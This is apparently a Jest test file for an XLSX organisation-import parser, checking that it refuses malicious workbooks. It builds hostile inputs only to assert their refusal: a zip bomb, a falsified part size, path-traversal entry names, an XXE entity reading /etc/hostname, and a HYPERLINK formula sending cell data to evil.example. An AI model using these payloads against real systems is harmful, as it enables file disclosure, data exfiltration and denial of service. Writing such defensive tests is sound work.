import { once } from 'node:events';
import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { describe, expect, it } from '@jest/globals';
import { writeXlsx } from 'hucre/xlsx';
import { fromBufferPromise } from 'yauzl';
import { ZipFile } from 'yazl';
import { MAX_UNPACKED_BYTES, type OrganisationFile } from '../src/index.js';
import { refusalsOf, xlsx } from './files.js';

const sheet = {
  Units: [
    ['code', 'kind', 'parent', 'name fa'],
    ['city', 'UNIT', null, 'شهر'],
  ],
};
const sheetPart = 'xl/worksheets/sheet1.xml';

/** The parts of a good workbook, some of them replaced or added. */
async function forged(parts: Record<string, string | Buffer>): Promise<OrganisationFile> {
  const good = await fromBufferPromise(Buffer.from((await xlsx(sheet)).content));
  const archive = new ZipFile();
  for await (const entry of good.eachEntry()) {
    if (entry.fileName in parts) continue;
    archive.addBuffer(await buffer(await good.openReadStreamPromise(entry)), entry.fileName);
  }
  for (const [name, content] of Object.entries(parts)) archive.addBuffer(Buffer.from(content), name);
  archive.end();
  return { name: 'forged.xlsx', content: await buffer(archive.outputStream) };
}

const codesOf = async (file: OrganisationFile) => (await refusalsOf(file)).map(([code]) => code);

describe('a workbook from somebody who means harm', () => {
  it('is refused when it unpacks to more than any organisation needs, before it is in memory', async () => {
    const archive = new ZipFile();
    const block = Buffer.alloc(1_000_000);
    const blocks = Math.ceil(MAX_UNPACKED_BYTES / block.length) + 50;
    archive.addReadStream(Readable.from(Array.from({ length: blocks }, () => block)), sheetPart);
    archive.end();
    const content = await buffer(archive.outputStream);
    expect(content.length).toBeLessThan(1_000_000);
    const before = process.memoryUsage.rss();
    expect(await codesOf({ name: 'bomb.xlsx', content })).toEqual(['ARCHIVE_TOO_LARGE']);
    expect(process.memoryUsage.rss() - before).toBeLessThan(MAX_UNPACKED_BYTES);
  });

  it('is refused when it lies about the size of a part', async () => {
    const { content } = await forged({ 'xl/filler.xml': Buffer.alloc(1_000_000) });
    const lying = Buffer.from(content);
    const at = lying.lastIndexOf('xl/filler.xml') - 46;
    expect(lying.readUInt32LE(at)).toBe(0x02014b50);
    lying.writeUInt32LE(10, at + 24);
    expect(await codesOf({ name: 'lying.xlsx', content: lying })).toEqual(['WORKBOOK_SYNTAX']);
  });

  it('is refused when it has more parts than any workbook needs', async () => {
    const parts = Object.fromEntries(
      Array.from({ length: 600 }, (_, index) => [`xl/part${index}.xml`, '<a/>']),
    );
    expect(await codesOf(await forged(parts))).toEqual(['ARCHIVE_TOO_LARGE']);
  });

  it.each(['../../evil.xml', '/etc/evil.xml', 'xl\\..\\..\\evil.xml', 'C:/evil.xml'])(
    'is refused when a part is called %s',
    async (name) => {
      const stand = 'x'.repeat(name.length);
      const { content } = await forged({ [stand]: '<a/>' });
      const renamed = Buffer.from(Buffer.from(content).toString('latin1').replaceAll(stand, name), 'latin1');
      expect(await codesOf({ name: 'slip.xlsx', content: renamed })).toEqual(['UNSAFE_ENTRY']);
    },
  );

  it('is refused with a document type declaration, and no entity of it is looked up', async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>
      <worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>`;
    expect(await codesOf(await forged({ [sheetPart]: xml }))).toEqual(['XML_DOCTYPE']);
    expect(await codesOf(await forged({ [sheetPart]: `${' '.repeat(65_530)}${xml}` }))).toEqual([
      'XML_DOCTYPE',
    ]);
  });

  it('is refused with a formula, at its cell', async () => {
    const cells = new Map([
      ['1,3', { value: 'x', formula: 'HYPERLINK("http://evil.example?"&A2)', type: 'formula' as const }],
    ]);
    const content = await writeXlsx({ sheets: [{ name: 'Units', rows: sheet.Units, cells }] });
    expect(await refusalsOf({ name: 'formula.xlsx', content })).toEqual([
      ['FORMULA_CELL', expect.stringContaining('sheet "Units", row 2, column D')],
    ]);
  });

  it('is refused with a text that no field can hold', async () => {
    const rows = [...sheet.Units.slice(0, 1), ['city', 'UNIT', null, 'ش'.repeat(32_000)]];
    expect(await codesOf(await xlsx({ Units: rows }))).toEqual(['TEXT_TOO_LONG']);
  });

  it('is refused when one cell stands in the farthest corner', async () => {
    const xml = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
      <row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>`;
    expect(await codesOf(await forged({ [sheetPart]: xml }))).toEqual([
      'UNKNOWN_HEADING',
      'MISSING_HEADING',
      'MISSING_HEADING',
      'MISSING_HEADING',
    ]);
  });

  it.each([
    ['nothing', Buffer.alloc(0)],
    ['text', Buffer.from('code,kind')],
    ['half an archive', Buffer.from('PK\u0003\u0004half')],
  ])('is refused when it is %s', async (_name, content) => {
    expect(await codesOf({ name: 'broken.xlsx', content })).toEqual(['WORKBOOK_SYNTAX']);
  });

  it('is refused when it is an archive without a sheet', async () => {
    const archive = new ZipFile();
    archive.addBuffer(Buffer.from('hello'), 'hello.txt');
    archive.end();
    await once(archive.outputStream, 'readable');
    expect(await codesOf({ name: 'other.xlsx', content: await buffer(archive.outputStream) })).toEqual([
      'WORKBOOK_SYNTAX',
    ]);
  });
});
